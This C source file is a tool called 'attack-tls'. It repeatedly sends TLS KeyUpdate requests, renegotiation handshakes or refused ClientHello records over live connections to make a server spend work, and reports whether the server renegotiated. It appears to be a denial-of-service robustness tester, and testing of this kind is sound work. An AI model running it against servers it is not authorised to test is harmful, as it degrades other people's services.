/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack-tls MODE ADDRESS:PORT NAME SECONDS: what a client may say after a TLS handshake that makes
 * a server work, over and over on one connection, and on the next one when that is ended.
 *
 *   keyupdate     KeyUpdate messages that ask for one in return (RFC 8446, 4.6.3); TLS 1.3
 *   renegotiate   handshakes inside the connection (RFC 5746); TLS 1.2
 *   insist        the same, but deaf to the refusal: asks again and again until it is cut
 *
 * Prints: connections, messages sent, connections that the server ended, CPU seconds of its own.
 * Exit code 3: the server took part in a renegotiation.
 */
#include <errno.h>
#include <fcntl.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "seal.h"
#include "tool.h"

enum { BETWEEN_READS = 64 };

const char *tool_name = "attack-tls";

static unsigned long connections, messages, cut;

/* Talks until the time is over or the server ends the connection. */
typedef void talk_fn(SSL *, int64_t end_us);

static int
dial(const struct sockaddr_in *to)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || connect(fd, (const struct sockaddr *)to, sizeof *to) != 0)
		tool_die("connect", strerror(errno));
	return fd;
}

/* Reads what has come. False: the connection is over. */
static int
still_stands(SSL *ssl)
{
	char buf[16384];
	int n;

	do
		n = SSL_read(ssl, buf, sizeof buf);
	while (n > 0);
	n = SSL_get_error(ssl, n);
	return n == SSL_ERROR_WANT_READ || n == SSL_ERROR_WANT_WRITE;
}

static void
update_keys(SSL *ssl, int64_t end_us)
{
	while (tool_now_us() < end_us) {
		for (int i = 0; i < BETWEEN_READS; i++) {
			int n;

			if (SSL_key_update(ssl, SSL_KEY_UPDATE_REQUESTED) != 1) {
				cut++;
				return;
			}
			while ((n = SSL_do_handshake(ssl)) != 1) {
				if (!still_stands(ssl)) {
					cut++;
					return;
				}
				if (tool_now_us() >= end_us)
					return;
			}
			messages++;
		}
		if (!still_stands(ssl)) {
			cut++;
			return;
		}
	}
}

static void
renegotiate(SSL *ssl, int64_t end_us)
{
	messages++;
	SSL_renegotiate(ssl);
	while (tool_now_us() < end_us) {
		int n = SSL_do_handshake(ssl);

		if (n == 1 && SSL_renegotiate_pending(ssl) == 0)
			exit(3);
		if (n != 1 && SSL_get_error(ssl, n) != SSL_ERROR_WANT_READ) {
			cut++;
			return;
		}
		usleep(1000);
	}
}

/* A ClientHello that nobody need read to its end to refuse it. */
static void
insist(SSL *ssl, int64_t end_us)
{
	static const unsigned char hello[4 + 37] = { 1, 0, 0, 37, 3, 3 };
	unsigned char record[SEAL_ROOM], answer[16384];
	int fd = SSL_get_fd(ssl);
	struct seal seal;

	seal_take(&seal, ssl);
	while (tool_now_us() < end_us) {
		size_t len = seal_record(&seal, 22, hello, sizeof hello, record);
		ssize_t n;

		if (send(fd, record, len, MSG_NOSIGNAL) != (ssize_t)len)
			break;
		messages++;
		do
			n = recv(fd, answer, sizeof answer, 0);
		while (n > 0);
		if (n == 0 || (errno != EAGAIN && errno != EWOULDBLOCK))
			break;
		usleep(100);
	}
	cut += tool_now_us() < end_us;
}

static void
once(SSL_CTX *ctx, const struct sockaddr_in *to, const char *name, talk_fn *talk, int64_t end_us)
{
	int fd = dial(to);
	SSL *ssl = SSL_new(ctx);

	if (ssl == NULL || SSL_set_fd(ssl, fd) != 1 || SSL_set_tlsext_host_name(ssl, name) != 1)
		abort();
	connections++;
	if (SSL_connect(ssl) == 1) {
		fcntl(fd, F_SETFL, O_NONBLOCK);
		talk(ssl, end_us);
	}
	SSL_free(ssl);
	close(fd);
}

static const struct {
	const char *name;
	talk_fn *talk;
} modes[] = { { "keyupdate", update_keys }, { "renegotiate", renegotiate }, { "insist", insist } };

int
main(int argc, char **argv)
{
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	struct sockaddr_in to;
	struct timespec cpu;
	int64_t end_us;
	talk_fn *talk = NULL;

	if (argc != 5 || ctx == NULL)
		tool_die("usage", "MODE ADDRESS:PORT NAME SECONDS");
	for (size_t i = 0; i < sizeof modes / sizeof modes[0]; i++)
		if (strcmp(argv[1], modes[i].name) == 0)
			talk = modes[i].talk;
	if (talk == NULL)
		tool_die(argv[1], "not a mode");
	signal(SIGPIPE, SIG_IGN);
	to = tool_address(argv[2]);
	end_us = tool_now_us() + (int64_t)(strtod(argv[4], NULL) * 1e6);
	if (talk == update_keys)
		SSL_CTX_set_min_proto_version(ctx, TLS1_3_VERSION);
	else
		SSL_CTX_set_max_proto_version(ctx, TLS1_2_VERSION);
	if (talk == insist && /* as seal.c has them */
	    SSL_CTX_set_cipher_list(
		ctx, "ECDHE-RSA-AES128-GCM-SHA256:ECDHE-ECDSA-AES128-GCM-SHA256") != 1)
		abort();
	while (tool_now_us() < end_us)
		once(ctx, &to, argv[3], talk, end_us);
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &cpu);
	printf("%lu %lu %lu %ld.%06ld\n", connections, messages, cut, (long)cpu.tv_sec,
	    cpu.tv_nsec / 1000);
	return 0;
}
